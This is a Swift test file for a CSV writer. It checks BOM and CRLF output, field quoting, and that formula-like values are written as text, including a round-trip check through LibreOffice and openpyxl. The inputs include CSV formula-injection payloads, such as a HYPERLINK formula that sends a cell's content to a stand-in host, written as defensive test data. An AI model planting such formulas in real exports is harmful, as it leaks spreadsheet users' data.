@testable import DubanClient
import DubanSpreadsheet
import Foundation
import Testing

@Suite struct CSVWriterTests {
    @Test func startsWithBOMAndEndsLinesWithCRLF() {
        let csv = CSVWriter.render(headers: ["代码", "名称"], rows: [["yf", "鱼峰区人民政府"]])
        #expect(csv == "\u{FEFF}代码,名称\r\nyf,鱼峰区人民政府\r\n")
        #expect(Array(csv.utf8.prefix(3)) == [0xEF, 0xBB, 0xBF])
    }

    @Test(arguments: [
        ("plain", "plain"),
        ("区住建局", "区住建局"),
        ("a,b", "\"a,b\""),
        ("say \"hi\"", "\"say \"\"hi\"\"\""),
        ("line\nbreak", "\"line\nbreak\""),
        ("crlf\r\nbreak", "\"crlf\r\nbreak\""),
        (" padded ", "\" padded \""),
        ("", ""),
        ("中文，全角逗号", "中文，全角逗号"),  // a fullwidth comma is not a separator
    ])
    func quotesFieldsThatNeedIt(value: String, expected: String) {
        #expect(CSVWriter.field(value) == expected)
    }

    @Test func aQuotedFieldWithALineBreakStaysOneRecord() {
        let csv = CSVWriter.render(headers: ["a", "b"], rows: [["1", "x\ny"], ["2", "z"]])
        #expect(csv == "\u{FEFF}a,b\r\n1,\"x\ny\"\r\n2,z\r\n")
    }

    @Test(arguments: [
        ("=HYPERLINK(\"http://x/?\"&B2,\"点此查看\")", "\"'=HYPERLINK(\"\"http://x/?\"\"&B2,\"\"点此查看\"\")\""),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        ("进度 = 50%", "进度 = 50%"),
    ])
    func aFormulaIsWrittenAsText(value: String, expected: String) {
        #expect(CSVWriter.field(value) == expected)
    }

    /// A spreadsheet program opens the file and sees text where a unit wrote a formula.
    @Test func libreOfficeReadsAWouldBeFormulaAsText() throws {
        let soffice = ["/usr/bin/soffice", "/usr/bin/libreoffice"].first { FileManager.default.isExecutableFile(atPath: $0) }
        guard let soffice, let python = OpenPyXL.python else {
            #expect(!OpenPyXL.onCI, "LibreOffice (libreoffice-calc) and python3-openpyxl are needed; Tools/test installs them")
            return
        }
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("duban-csv-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let texts = ["=HYPERLINK(\"http://x/?\"&B2,\"点此查看\")", "=1+1", "+1+1", "-2+3", "@SUM(A1)", "普通文字"]
        let csv = CSVWriter.render(headers: ["原因", "数量"], rows: texts.map { [$0, "-5"] })
        let input = folder.appendingPathComponent("export.csv")
        try Data(csv.utf8).write(to: input)
        let profile = folder.appendingPathComponent("profile")
        let converted = try OpenPyXL.run(soffice, [
            "-env:UserInstallation=file://\(profile.path)", "--headless", "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx",
            "--outdir", folder.path, input.path,
        ])
        try #require(converted.status == 0, "soffice: \(converted.stderr)")
        let script = """
            import json, sys, openpyxl
            sheet = openpyxl.load_workbook(sys.argv[1]).active
            print(json.dumps([[[c.data_type, c.value] for c in row] for row in sheet.iter_rows(min_row=2)]))
            """
        let read = try OpenPyXL.run(python, ["-c", script, folder.appendingPathComponent("export.xlsx").path])
        try #require(read.status == 0, "openpyxl: \(read.stderr)")
        let rows = try #require(try JSONSerialization.jsonObject(with: read.stdout) as? [[[Any]]])
        #expect(rows.count == texts.count)
        for (row, text) in zip(rows, texts) {
            #expect(row[0][0] as? String == "s", "\(text) is a string cell, not a formula: \(row[0])")
            #expect((row[0][1] as? String)?.hasSuffix(text) == true, "\(row[0])")
            #expect(row[1][0] as? String == "n", "a negative number stays a number: \(row[1])")
        }
    }
}
